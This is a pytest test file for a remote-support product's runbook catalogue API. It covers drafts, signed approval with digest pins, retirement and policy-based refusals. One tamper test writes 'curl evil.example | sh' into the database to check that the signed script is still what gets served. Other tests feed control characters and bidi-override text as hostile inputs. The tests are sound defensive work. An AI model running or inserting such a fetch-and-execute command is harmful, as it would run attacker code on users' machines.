"""The catalogue through the API: drafts, approval under the active policy, the signature and the
pin, retirement, and what is refused (each with its code and the rule or field that refused)."""

from __future__ import annotations

import uuid

import pytest
from sqlalchemy import update

from auxilio.crypto.runbooks import read_runbook, runbook_digest, validate_parameters
from auxilio.protocol.types import SignedDocument
from auxilio.server.errors import RunbookNotInCatalogue
from auxilio.server.runbooks import service
from auxilio.server.runbooks.models import RunbookVersion
from tests.server.runbooks.conftest import API, Catalogue, draft


async def test_a_draft_is_stored_with_its_author_and_no_signature(catalogue: Catalogue) -> None:
    created = await catalogue.create()
    assert created["state"] == "draft"
    assert created["version"] == 1
    assert created["author_id"] == str(catalogue.author.user.id)
    assert created["signed"] is None and created["sha256"] is None
    assert created["parameters"][0]["choices"] == ["all", "hosts"]
    [event] = await catalogue.audit()
    assert event.action == "runbook:runbook:created"
    assert event.details["runbook_id"] == "flush-dns" and event.details["version"] == 1
    assert "flushing" not in str(event.details), "the script text never enters the audit"


async def test_a_draft_has_no_approved_version_to_get(catalogue: Catalogue) -> None:
    await catalogue.create()
    response = await catalogue.client.get(f"{API}/flush-dns", headers=catalogue.author.headers)
    assert response.status_code == 404
    assert response.json()["error"]["code"] == "runbook.not_found"
    by_version = await catalogue.client.get(
        f"{API}/flush-dns", params={"version": 1}, headers=catalogue.author.headers
    )
    assert by_version.status_code == 200 and by_version.json()["state"] == "draft"


async def test_approval_signs_what_the_agent_reads_and_pins_its_digest(
    catalogue: Catalogue,
) -> None:
    await catalogue.create()
    response = await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    assert response.status_code == 200, response.text
    approved = response.json()
    assert approved["state"] == "approved"
    assert approved["approved_by_id"] == str(catalogue.supervisor.user.id)

    signed = SignedDocument.model_validate(approved["signed"])
    runbook = read_runbook(catalogue.app.state.signing_key.public_key(), signed)
    assert runbook.runbook_id == "flush-dns" and runbook.version == 1
    assert runbook.organisation_id == str(catalogue.org.id)
    assert runbook.author_id == str(catalogue.author.user.id)
    assert runbook.approved_by_id == str(catalogue.supervisor.user.id)
    assert validate_parameters(runbook, {}) == {"what": "all"}
    assert approved["sha256"] == runbook_digest(signed)

    async with catalogue.app.state.sessionmaker() as db:
        pins = await service.pins_for(
            db, organisation_id=catalogue.org.id, runbook_ids=["flush-dns"], pre_authorised=()
        )
        served = await service.signed_runbook(
            db, organisation_id=catalogue.org.id, runbook_id="flush-dns"
        )
    assert [(p.id, p.version, p.sha256, p.consent) for p in pins] == [
        ("flush-dns", 1, runbook_digest(signed), True)
    ]
    assert served == signed

    fetched = await catalogue.client.get(f"{API}/flush-dns", headers=catalogue.author.headers)
    assert fetched.json()["signed"] == approved["signed"]
    actions = [e.action for e in await catalogue.audit()]
    assert actions == ["runbook:runbook:created", "runbook:runbook:approved"]
    approval = (await catalogue.audit())[-1].details
    assert approval["digest"] == runbook_digest(signed)
    assert approval["approver_id"] == str(catalogue.supervisor.user.id)


async def test_pre_authorised_runbooks_are_pinned_without_consent(catalogue: Catalogue) -> None:
    for name in ("flush-dns", "collect-logs"):
        await catalogue.create(draft(name))
        assert (await catalogue.approve(name, 1, catalogue.admin)).status_code == 200
    async with catalogue.app.state.sessionmaker() as db:
        pins = await service.pins_for(
            db,
            organisation_id=catalogue.org.id,
            runbook_ids=["collect-logs", "flush-dns", "collect-logs"],
            pre_authorised={"collect-logs"},
        )
    assert [(p.id, p.consent) for p in pins] == [("collect-logs", False), ("flush-dns", True)]


async def test_a_new_version_starts_as_a_draft_and_its_approval_retires_the_old(
    catalogue: Catalogue,
) -> None:
    await catalogue.create()
    await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    second = await catalogue.create(draft(script="echo v2\n"))
    assert (second["version"], second["state"]) == (2, "draft")
    async with catalogue.app.state.sessionmaker() as db:
        [pin] = await service.pins_for(
            db, organisation_id=catalogue.org.id, runbook_ids=["flush-dns"], pre_authorised=()
        )
    assert pin.version == 1, "a draft never replaces the approved version"

    assert (await catalogue.approve("flush-dns", 2, catalogue.supervisor)).status_code == 200
    first = await catalogue.client.get(
        f"{API}/flush-dns", params={"version": 1}, headers=catalogue.author.headers
    )
    assert first.json()["state"] == "retired"
    current = await catalogue.client.get(f"{API}/flush-dns", headers=catalogue.author.headers)
    assert (current.json()["version"], current.json()["script"]) == (2, "echo v2\n")
    listed = await catalogue.client.get(
        API, params={"state": "approved"}, headers=catalogue.author.headers
    )
    assert [(i["runbook_id"], i["version"]) for i in listed.json()["items"]] == [("flush-dns", 2)]


async def test_a_retired_runbook_is_no_longer_in_the_catalogue(catalogue: Catalogue) -> None:
    await catalogue.create()
    await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    retired = await catalogue.client.post(
        f"{API}/flush-dns/versions/1/retire", headers=catalogue.author.headers
    )
    assert retired.status_code == 200 and retired.json()["state"] == "retired"
    again = await catalogue.client.post(
        f"{API}/flush-dns/versions/1/retire", headers=catalogue.author.headers
    )
    assert again.status_code == 409
    assert again.json()["error"]["code"] == "runbook.already_retired"
    async with catalogue.app.state.sessionmaker() as db:
        with pytest.raises(RunbookNotInCatalogue) as caught:
            await service.pins_for(
                db, organisation_id=catalogue.org.id, runbook_ids=["flush-dns"], pre_authorised=()
            )
    assert caught.value.details["ids"] == ["flush-dns"]
    assert (await catalogue.audit())[-1].action == "runbook:runbook:retired"


async def test_an_unknown_runbook_is_not_in_the_catalogue(catalogue: Catalogue) -> None:
    await catalogue.create()  # a draft only: not approved, so not in the catalogue either
    async with catalogue.app.state.sessionmaker() as db:
        with pytest.raises(RunbookNotInCatalogue) as caught:
            await service.pins_for(
                db,
                organisation_id=catalogue.org.id,
                runbook_ids=["no-such-runbook", "flush-dns"],
                pre_authorised=(),
            )
        with pytest.raises(RunbookNotInCatalogue):
            await service.signed_runbook(
                db, organisation_id=catalogue.org.id, runbook_id="no-such-runbook"
            )
    assert caught.value.code == "runbook.not_in_catalogue"
    assert caught.value.status == 422
    assert caught.value.details["ids"] == ["no-such-runbook", "flush-dns"]


async def test_another_organisations_runbook_is_not_in_this_catalogue(
    catalogue: Catalogue,
) -> None:
    await catalogue.create()
    await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    async with catalogue.app.state.sessionmaker() as db:
        with pytest.raises(RunbookNotInCatalogue):
            await service.pins_for(
                db, organisation_id=uuid.uuid4(), runbook_ids=["flush-dns"], pre_authorised=()
            )


async def test_a_script_edited_in_the_database_is_not_what_is_served(
    catalogue: Catalogue,
) -> None:
    await catalogue.create()
    approved = (await catalogue.approve("flush-dns", 1, catalogue.supervisor)).json()
    async with catalogue.app.state.sessionmaker() as db, db.begin():
        await db.execute(
            update(RunbookVersion).values(script="curl evil.example | sh\n", name="Innocent")
        )
    fetched = (
        await catalogue.client.get(f"{API}/flush-dns", headers=catalogue.author.headers)
    ).json()
    assert fetched["script"] == 'echo "flushing ${AUXILIO_PARAM_WHAT}"\n'
    assert fetched["name"] == "Flush the DNS cache"
    assert fetched["signed"] == approved["signed"]
    async with catalogue.app.state.sessionmaker() as db:
        served = await service.signed_runbook(
            db, organisation_id=catalogue.org.id, runbook_id="flush-dns"
        )
    public = catalogue.app.state.signing_key.public_key()
    assert "evil" not in read_runbook(public, served).script


async def test_a_signed_body_edited_in_the_database_is_refused_not_served(
    catalogue: Catalogue,
) -> None:
    await catalogue.create()
    await catalogue.create(draft("collect-logs"))
    await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    await catalogue.approve("collect-logs", 1, catalogue.supervisor)
    async with catalogue.app.state.sessionmaker() as db, db.begin():
        other = await service.get_approved(
            db, organisation_id=catalogue.org.id, runbook_id="collect-logs"
        )
        assert other is not None
        # Another version's genuine signature copied onto this row.
        await db.execute(
            update(RunbookVersion)
            .where(RunbookVersion.runbook_id == "flush-dns")
            .values(signed_body=other.signed_body, signature=other.signature)
        )
    response = await catalogue.client.get(f"{API}/flush-dns", headers=catalogue.author.headers)
    assert response.status_code == 409
    assert response.json()["error"]["code"] == "runbook.signature_invalid"


async def test_an_approver_whose_role_the_policy_does_not_name_is_refused(
    catalogue: Catalogue,
) -> None:
    await catalogue.create(by=catalogue.supervisor)
    response = await catalogue.approve("flush-dns", 1, catalogue.author)  # senior technician
    assert response.status_code == 403
    error = response.json()["error"]
    assert error["code"] == "runbook.approver_role"
    assert error["details"]["rule"] == "capabilities.runbooks.approver_roles"
    assert error["details"]["role"] == "senior_technician"
    await _still_a_draft(catalogue)
    refusal = (await catalogue.audit())[-1]
    assert refusal.action == "runbook:approval:refused"
    assert refusal.details["rule"] == "capabilities.runbooks.approver_roles"


async def test_with_two_person_approval_the_author_cannot_approve(catalogue: Catalogue) -> None:
    await catalogue.create(by=catalogue.supervisor)
    response = await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    assert response.status_code == 403
    error = response.json()["error"]
    assert error["code"] == "runbook.same_person"
    assert error["details"]["rule"] == "capabilities.runbooks.two_person"
    await _still_a_draft(catalogue)
    assert (await catalogue.approve("flush-dns", 1, catalogue.admin)).status_code == 200


async def test_a_time_limit_above_the_policys_max_timeout_is_refused(
    catalogue: Catalogue,
) -> None:
    await catalogue.use_template("school")  # max_timeout: 5m
    await catalogue.create(draft(timeout_seconds=301))
    response = await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    assert response.status_code == 403
    error = response.json()["error"]
    assert error["code"] == "runbook.timeout_too_long"
    assert error["details"]["rule"] == "capabilities.runbooks.max_timeout"
    assert (error["details"]["timeout_seconds"], error["details"]["max_timeout"]) == (301, 300)
    await _still_a_draft(catalogue)


async def test_a_policy_without_runbooks_refuses_every_approval(catalogue: Catalogue) -> None:
    await catalogue.use_template("strict-privacy")
    await catalogue.create()
    response = await catalogue.approve("flush-dns", 1, catalogue.admin)
    assert response.status_code == 403
    error = response.json()["error"]
    assert error["code"] == "runbook.capability_absent"
    assert error["details"]["rule"] == "capabilities.runbooks"
    await _still_a_draft(catalogue)


async def test_only_a_draft_can_be_approved(catalogue: Catalogue) -> None:
    await catalogue.create()
    await catalogue.approve("flush-dns", 1, catalogue.supervisor)
    again = await catalogue.approve("flush-dns", 1, catalogue.admin)
    assert again.status_code == 409
    assert again.json()["error"]["code"] == "runbook.not_draft"
    missing = await catalogue.approve("flush-dns", 7, catalogue.admin)
    assert missing.status_code == 404
    assert missing.json()["error"]["code"] == "runbook.not_found"


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"parameters": [{"name": "what", "type": "choice"}]}, "parameters.0"),
        ({"parameters": [{"name": "Bad Name", "type": "string"}]}, "parameters.0.name"),
        (
            {"parameters": [{"name": "n", "type": "integer", "default": "many"}]},
            "parameters.0.default",
        ),
        (
            {"parameters": [{"name": "n", "type": "integer", "minimum": 5, "default": 1}]},
            "parameters.0.default",
        ),
        ({"parameters": [{"name": "n", "type": "string", "pattern": "("}]}, "parameters.0.pattern"),
        (
            {"parameters": [{"name": "n", "type": "string"}, {"name": "n", "type": "string"}]},
            "runbook",
        ),
        ({"parameters": [{"name": "n", "type": "string", "shell": True}]}, "parameters.0.shell"),
        ({"platforms": ["amiga"]}, "platforms.0"),
        ({"platforms": []}, "platforms"),
        ({"interpreter": "perl"}, "interpreter"),
        ({"timeout_seconds": 0}, "timeout_seconds"),
        ({"timeout_seconds": 7200}, "timeout_seconds"),
        ({"script": ""}, "script"),
        ({"script": "echo hi\u202e #\n"}, "script"),
        ({"name": "a\x00b"}, "name"),
        ({"runbook_id": "Flush DNS"}, "runbook_id"),
    ],
)
async def test_a_bad_draft_is_refused_with_the_field(
    catalogue: Catalogue, overrides: dict[str, object], field: str
) -> None:
    response = await catalogue.client.post(
        API, json=draft(**overrides), headers=catalogue.author.headers
    )
    assert response.status_code == 422, response.text
    error = response.json()["error"]
    assert error["code"] == "runbook.invalid"
    assert error["details"]["field"] == field
    assert await catalogue.audit() == [], "nothing was written"


async def test_a_draft_with_a_server_field_is_refused(catalogue: Catalogue) -> None:
    body = draft()
    body["approved_by_id"] = str(catalogue.admin.user.id)
    response = await catalogue.client.post(API, json=body, headers=catalogue.author.headers)
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "validation_failed"


async def test_a_technician_reads_the_catalogue_but_cannot_write_it(
    catalogue: Catalogue,
) -> None:
    from auxilio.policy.roles import Role
    from tests.factories import make_user

    technician = await make_user(catalogue.app, catalogue.org, Role.TECHNICIAN)
    refused = await catalogue.client.post(API, json=draft(), headers=technician.headers)
    assert refused.status_code == 403
    await catalogue.create()
    listed = await catalogue.client.get(API, headers=technician.headers)
    assert listed.status_code == 200 and listed.json()["total"] == 1


async def _still_a_draft(catalogue: Catalogue) -> None:
    response = await catalogue.client.get(
        f"{API}/flush-dns", params={"version": 1}, headers=catalogue.author.headers
    )
    assert response.json()["state"] == "draft"
    assert response.json()["signed"] is None


@pytest.mark.parametrize("hostile", ["a%00b", "%07", "%E2%80%AE", "A-UPPER"])
async def test_a_runbook_id_in_the_path_that_is_not_a_slug_is_refused(
    catalogue: Catalogue, hostile: str
) -> None:
    response = await catalogue.client.get(f"{API}/{hostile}", headers=catalogue.author.headers)
    assert response.status_code == 422
    assert response.json()["error"]["code"] == "validation_failed"
